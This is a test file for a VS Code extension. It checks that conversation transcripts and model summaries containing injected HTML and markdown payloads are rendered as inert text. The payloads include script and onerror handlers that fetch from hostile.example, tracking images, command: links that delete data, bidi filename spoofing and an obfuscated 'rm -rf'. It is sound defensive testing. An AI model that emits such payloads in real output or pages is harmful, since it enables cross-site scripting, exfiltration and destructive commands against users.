import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { sectionTitles } from '../../src/summary/sections.ts';
import { summaryEnd } from '../../src/summary/parse.ts';
import { answer } from '../support/fakeProvider/behaviours.ts';
import { keyRefused } from '../support/fakeProvider/failures.ts';
import { prose } from '../support/logs.ts';
import { runAndChoose, runCommand } from '../vscode/commandPalette.ts';
import { answerPath, offeredPath } from '../vscode/fileDialog.ts';
import { SampleWorkbench } from './sampleWorkbench.ts';

/**
 * A transcript that means harm, and a model that passes it on, in the real webview: its own content
 * security policy, its own frames, the whole workbench around it. The network, the console, dialogs and
 * new windows are watched from beginning to end.
 */

/** No request may ever go there, and no word of a refused one may be in the console. */
const host = 'hostile.example';

/** Each would leave a mark if it ran: in the title, on `top`, at {@link host}, or on screen. */
const attempts: readonly string[] = [
	`<script>top.owned = 1; fetch("https://${host}/script")</script>`,
	`<img src="https://${host}/image" onerror="top.owned = 1">`,
	'<svg onload="top.owned = 1"><script>top.owned = 1</script></svg>',
	'<iframe srcdoc="<script>top.owned = 1</script>"></iframe>',
	`[click](javascript:top.owned=1) [here](command:workbench.action.closeWindow) <vscode://${host}/run>`,
	`<style>@import "https://${host}/style"; * { display: none }</style>`,
	`<div style="position:fixed;inset:0;background:url(https://${host}/background)">over it</div>`,
	'Open invoice\u202Efdp.exe\u202C, run `rm -rf\u200B\u200B build`',
	'\u001B[31mred\u001B[0m \u001B]8;;https://hostile.example/ansi\u0007x\u001B]8;;\u0007',
	`![tracker](https://${host}/markdown) [![a](https://${host}/nested)](https://${host}/link)`,
	`![x][y]\n\n[y]: https://${host}/reference`,
	`<form action="https://${host}/form"><button autofocus>Compact</button></form>`,
	`<meta http-equiv="refresh" content="0;url=https://${host}/refresh">`,
	`<link rel="prefetch" href="https://${host}/prefetch"><base href="https://${host}/">`,
	'<details open ontoggle="top.owned = 1"><summary>x</summary></details>',
	'$(sync~spin) $(trash) [a](command:precis.deleteAllData "x")',
	`\`\`\`html\n<script src="https://${host}/fence"></script>\n\`\`\``,
];

describe('A transcript that means harm, in a real VS Code', function () {
	const sample = new SampleWorkbench();
	const seen: string[] = [];
	let folder = '';

	before(async () => {
		const { page } = sample;
		page.on('request', (request) => {
			if (request.url().includes(host)) {
				seen.push(`request: ${request.url()}`);
			}
		});
		page.on('console', (message) => {
			if (/content security policy|owned/i.test(message.text()) || message.text().includes(host)) {
				seen.push(`console: ${message.text()}`);
			}
		});
		page.on('dialog', (dialog) => {
			seen.push(`dialog: ${dialog.message()}`);
			void dialog.dismiss();
		});
		page.context().on('page', (other) => seen.push(`window: ${other.url()}`));
		folder = await mkdtemp(path.join(tmpdir(), 'precis-hostile-'));
		await writeFile(path.join(folder, 'hostile.jsonl'), transcript());
	});
	after(() => rm(folder, { recursive: true, force: true }));
	afterEach(async () => {
		assert.deepEqual(seen, []);
		for (const frame of sample.page.frames()) {
			assert.equal(await frame.evaluate('globalThis.owned'), undefined, frame.url());
		}
	});

	it('is opened as text: title, tree, problems', async () => {
		await runAndChoose(sample.page, 'Precis: Open…', 'File…');
		await offeredPath(sample.page, '/');
		await answerPath(sample.page, path.join(folder, 'hostile.jsonl'));
		const frame = await sample.panel('main.panel h1');
		await frame.locator('h1', { hasText: '<script>' }).waitFor();
		await frame.getByText('Problems in the file').click();
		assert.equal(await frame.locator('main img, main script, main iframe').count(), 0);
		const row = sample.page.locator('.customview-tree .monaco-list-row', { hasText: '<script>' });
		const hover = sample.page.locator('.monaco-hover', { hasText: '<script>' });
		await row.click();
		await sample.press(hover, 'ControlOrMeta+K', 'ControlOrMeta+I');
		assert.equal(await sample.page.locator('.monaco-hover a, .monaco-hover img').count(), 0);
		await sample.page.keyboard.press('Escape');
	});

	/** Opens all sections of the summary, and looks for anything but text. */
	async function assertText(): Promise<void> {
		const frame = await sample.panel('main.panel .receipt');
		const shut = frame.locator('.section:not([open]) > summary');
		while ((await shut.count()) > 0) {
			await shut.first().click();
		}
		const inside = frame.locator('.items');
		await inside.first().waitFor();
		const alive = 'script, img, iframe, style, form, link, meta, base, details, [style], [onerror]';
		assert.equal(await inside.locator(alive).count(), 0);
		const text = (await inside.allInnerTexts()).join('\n');
		assert.match(text, /<script>/);
		assert.doesNotMatch(text, /[\u202A-\u202E\u2066-\u2069\u200B\u001B]/);
		const addresses = await frame.evaluate<readonly string[]>(
			"[...document.querySelectorAll('.items a')].map(({ href }) => href)",
		);
		assert.deepEqual(
			addresses.filter((address) => !address.startsWith('https://')),
			[],
		);
	}

	it('is summarised as text by the built-in summariser', async () => {
		sample.provider.always(keyRefused);
		await runCommand(sample.page, 'Precis: Compact Conversation');
		await assertText();
		await sample.photograph('hostile-built-in');
	});

	it('is summarised as text by a model that passes it on', async () => {
		sample.provider.always(answer(summary()));
		const frame = await sample.panel('main.panel .receipt');
		await frame.getByRole('button', { name: 'Retry with Model' }).click();
		await frame.locator('.sections-note', { hasText: 'acme/small' }).waitFor();
		await frame.getByText('No model could write this summary').waitFor({ state: 'detached' });
		await assertText();
		await sample.photograph('hostile-model');
	});

	it('is read as it was said, as text', async () => {
		await runCommand(sample.page, 'Precis: Show Messages');
		const session = await sample.panel('.session .row');
		await session.getByText('<script>').first().waitFor();
		assert.equal(await session.locator('main :is(script, img, iframe)').count(), 0);
		await runAndChoose(sample.page, 'Precis: Hand Over…', 'Document');
		await sample.page
			.locator('.monaco-editor .view-line', { hasText: 'Handoff from an earlier context window' })
			.first()
			.waitFor();
	});
});

function summary(): string {
	const sections = sectionTitles.map(
		(title) => `## ${title}\n${attempts.map((attempt) => `- ${attempt} (m1)`).join('\n')}`,
	);
	return [...sections, summaryEnd].join('\n\n');
}

/** OpenAI chat messages: harm in every role, in names and arguments, and a line that is none. */
function transcript(): string {
	const messages = Array.from({ length: 60 }, (_, index) => {
		const attempt = attempts[index % attempts.length] ?? '';
		const id = `<script>${index}</script>`;
		const call = {
			id,
			type: 'function',
			function: { name: 'bash', arguments: JSON.stringify({ command: attempt }) },
		};
		return [
			{ role: 'user', content: `${attempt} never forget ${attempt}` },
			{ role: 'assistant', content: `${attempt}\n${prose(800, index)}`, tool_calls: [call] },
			{ role: 'tool', tool_call_id: id, content: `error: ${attempt} failed\nexit code 1` },
			{ role: 'assistant', content: `I decided: ${attempt}` },
		];
	}).flat();
	return [
		...messages.map((message) => JSON.stringify(message)),
		`{"role": ${attempts[0] ?? ''}`,
	].join('\n');
}
